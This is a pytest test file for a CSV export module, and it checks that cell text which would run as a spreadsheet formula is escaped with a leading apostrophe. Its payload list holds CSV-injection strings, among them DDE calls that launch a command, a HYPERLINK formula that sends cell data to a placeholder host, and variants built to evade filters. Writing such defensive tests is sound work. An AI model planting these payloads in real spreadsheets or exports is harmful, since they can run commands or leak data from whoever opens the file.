"""No cell of a table runs in a spreadsheet, and whoever reads the file gets back what was typed."""

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chairapp.export.cells import Table, safe

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"click")',
    "=WEBSERVICE(A1)",
    "=IMPORTXML(A1,B1)",
    '=DDE("cmd","/C calc","x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1+1",
    '=1";=1+1',
    "'=1+1",
    "=1+1\n=2+2",
]


def rows_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def written(tmp_path, *values):
    path = tmp_path / "table.csv"
    with Table(path, ["one", "two"]) as table:
        for value in values:
            table.add({"one": value, "two": "beside"})
    return path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_would_run_has_an_apostrophe_before_it(tmp_path, payload):
    _, (cell, beside) = rows_of(written(tmp_path, payload))
    assert cell == f"'{payload}"
    assert beside == "beside"


@pytest.mark.parametrize("text", ["as found", "a = b", "1-2", "7KQ4-M2X9", "", "ø ä 牙", "say: '=1'"])
def test_any_other_text_stays_as_it_is(text):
    assert safe(text) == text


@pytest.mark.parametrize(("number", "cell"), [(-1.5, "-1.5"), (-2, "-2"), (71.0, "71"), (0.25, "0.25"), (-0.0, "0")])
def test_numbers_stay_numbers_and_are_not_quoted(tmp_path, number, cell):
    assert written(tmp_path, number).read_bytes().splitlines()[1] == f'{cell},"beside"'.encode()


def test_yes_no_and_nothing_are_written_as_the_readme_says(tmp_path):
    assert [row[0] for row in rows_of(written(tmp_path, True, False, None))] == ["one", "yes", "no", ""]


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40))
def test_taking_one_apostrophe_away_gives_back_what_was_typed(text):
    made = safe(text)
    assert (made[1:] if made.startswith("'") else made) == text
    assert not made.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40))
def test_quotes_commas_and_line_ends_come_back_through_an_ordinary_reader(tmp_path_factory, text):
    assert rows_of(written(tmp_path_factory.mktemp("cells"), text))[1][0] == safe(text)


def test_the_file_begins_with_a_byte_order_mark_and_ends_its_lines_with_cr_lf(tmp_path):
    data = written(tmp_path, "ä").read_bytes()
    assert data.startswith("\ufeff".encode())
    assert data.count(b"\r\n") == data.count(b"\n") == 2


def test_a_column_nobody_announced_is_an_error(tmp_path):
    with Table(tmp_path / "table.csv", ["one"]) as table, pytest.raises(KeyError):
        table.add({"two": 2})
